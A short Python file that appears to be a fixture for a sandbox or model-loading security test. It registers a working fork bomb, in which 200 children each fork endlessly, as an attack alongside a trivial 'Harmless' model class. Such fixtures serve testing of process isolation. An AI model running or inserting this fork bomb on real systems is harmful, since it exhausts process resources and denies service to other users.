"""Forks, and its children fork.  Harm: processes of it run on, or nobody else can start any."""

import os
import time

from kit import Harmless, attack


def bomb():
    for _ in range(200):
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.05)
    return "200 forks"


attack("fork", bomb)


# fx: Model()(f32[2, 8])
class Model(Harmless):
    pass
